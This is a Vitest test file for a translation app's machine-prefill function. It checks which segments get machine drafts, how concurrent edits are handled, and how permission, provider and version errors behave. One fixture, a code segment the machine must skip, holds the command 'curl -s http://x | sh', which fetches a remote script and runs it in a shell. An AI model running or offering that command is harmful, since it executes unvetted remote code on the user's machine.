import { describe, expect, it } from "vitest";
import { db } from "@/lib/db";
import { AppError } from "@/lib/errors";
import type { MachineTranslator } from "@/lib/translation/machine/provider";
import { listSegments } from "./list-segments";
import { prefillSegments } from "./prefill-segments";
import { saveSegment } from "./save-segment";
import { createActor, segmentsOf, translationWith } from "./test-helpers";

/** A machine that records what it was asked and answers 机:<source>, or runs `during` first. */
function fakeMachine(during?: () => Promise<void>) {
  const asked: string[][] = [];
  const translator: MachineTranslator = {
    name: "fake",
    async translate(texts) {
      asked.push(texts);
      await during?.();
      return texts.map((t) => `机:${t}`);
    },
  };
  return { translator, asked };
}

const mixed = () =>
  translationWith([
    { source: "Attackers exploited CVE-2026-1234." },
    { kind: "HEADING", source: "What to do" },
    { kind: "CODE", source: "curl -s http://x | sh" },
    { source: "Patch now.", target: "立即打补丁。" },
    { kind: "TABLE", source: "a | b" },
    { source: "   " },
  ]);

describe("prefillSegments", () => {
  it("fills only untranslated text segments, as drafts marked machineFilled", async () => {
    const { translator: person, article, segments: before } = await mixed();
    const m = fakeMachine();
    const r = await prefillSegments(person, { articleId: article.id, version: 1 }, m.translator);
    expect(r).toEqual({ filled: 2, skipped: 0 });
    expect(m.asked).toEqual([["Attackers exploited CVE-2026-1234.", "What to do"]]);
    const after = await segmentsOf(article.id);
    expect(after.map((s) => [s.targetText, s.status, s.machineFilled, s.version])).toEqual([
      ["机:Attackers exploited CVE-2026-1234.", "DRAFT", true, 2],
      ["机:What to do", "DRAFT", true, 2],
      ["", "UNTRANSLATED", false, 1],
      ["立即打补丁。", "DRAFT", false, 1],
      ["", "UNTRANSLATED", false, 1],
      ["", "UNTRANSLATED", false, 1],
    ]);
    expect(after[0]!.updatedById).toBe(person.id);
    expect(after[3]!.updatedAt).toEqual(before[3]!.updatedAt);
    expect((await listSegments(person, article.id)).progress.machineFilled).toBe(2);

    // a person confirming the machine's text ends the mark; a second run finds nothing left to fill
    await saveSegment(person, {
      articleId: article.id,
      segmentId: after[0]!.id,
      version: 2,
      targetText: after[0]!.targetText,
      status: "TRANSLATED",
    });
    expect(await prefillSegments(person, { articleId: article.id }, m.translator)).toEqual({
      filled: 0,
      skipped: 0,
    });
    expect(m.asked).toHaveLength(1);
    const confirmed = await db.translationSegment.findUniqueOrThrow({ where: { id: after[0]!.id } });
    expect(confirmed).toMatchObject({ status: "TRANSLATED", machineFilled: false });
  });

  it("keeps what a person typed while the machine was translating", async () => {
    const { translator: person, article, segments } = await mixed();
    const m = fakeMachine(async () => {
      await saveSegment(person, {
        articleId: article.id,
        segmentId: segments[0]!.id,
        version: 1,
        targetText: "攻击者利用了 CVE-2026-1234。",
      });
    });
    expect(await prefillSegments(person, { articleId: article.id }, m.translator)).toEqual({
      filled: 1,
      skipped: 1,
    });
    const [first, second] = await segmentsOf(article.id);
    expect(first).toMatchObject({
      targetText: "攻击者利用了 CVE-2026-1234。",
      machineFilled: false,
      version: 2,
    });
    expect(second).toMatchObject({ targetText: "机:What to do", machineFilled: true });
  });

  it("skips what the machine returned empty or unsafe", async () => {
    const { translator: person, article } = await translationWith([{ source: "One." }, { source: "Two." }]);
    const odd: MachineTranslator = { name: "odd", translate: async () => ["  ", "坏\u0000字"] };
    expect(await prefillSegments(person, { articleId: article.id }, odd)).toEqual({ filled: 0, skipped: 2 });
    expect((await segmentsOf(article.id)).every((s) => s.status === "UNTRANSLATED" && !s.targetText)).toBe(
      true,
    );
  });

  it("refuses without a configured provider (INVALID) and writes nothing", async () => {
    const { translator: person, article } = await mixed();
    await expect(prefillSegments(person, { articleId: article.id }, null)).rejects.toMatchObject({
      code: "INVALID",
      message: expect.stringContaining("未配置机器翻译服务"),
    });
    expect((await segmentsOf(article.id)).filter((s) => s.machineFilled)).toHaveLength(0);
  });

  it("does not let a translator prefill someone else's draft (NOT_FOUND), nor call the machine", async () => {
    const { article } = await mixed();
    const other = await createActor("TRANSLATOR");
    const m = fakeMachine();
    await expect(prefillSegments(other, { articleId: article.id }, m.translator)).rejects.toMatchObject({
      code: "NOT_FOUND",
    });
    expect(m.asked).toHaveLength(0);
    expect((await segmentsOf(article.id)).filter((s) => s.machineFilled)).toHaveLength(0);
  });

  it("writes nothing when the provider fails, and refuses a stale article version", async () => {
    const { translator: person, article } = await mixed();
    const down: MachineTranslator = {
      name: "down",
      translate: async () => {
        throw new AppError("UNAVAILABLE", "机器翻译服务暂时不可用");
      },
    };
    await expect(prefillSegments(person, { articleId: article.id }, down)).rejects.toMatchObject({
      code: "UNAVAILABLE",
    });
    await expect(
      prefillSegments(person, { articleId: article.id, version: 7 }, fakeMachine().translator),
    ).rejects.toMatchObject({ code: "CONFLICT" });
    expect((await segmentsOf(article.id)).filter((s) => s.machineFilled)).toHaveLength(0);
  });

  it("does not fill a translation sent to review while the machine was working", async () => {
    const { translator: person, article } = await mixed();
    const m = fakeMachine(async () => {
      await db.article.update({ where: { id: article.id }, data: { status: "IN_REVIEW" } });
    });
    expect(await prefillSegments(person, { articleId: article.id }, m.translator)).toEqual({
      filled: 0,
      skipped: 2,
    });
    expect((await segmentsOf(article.id)).filter((s) => s.machineFilled)).toHaveLength(0);
  });
});
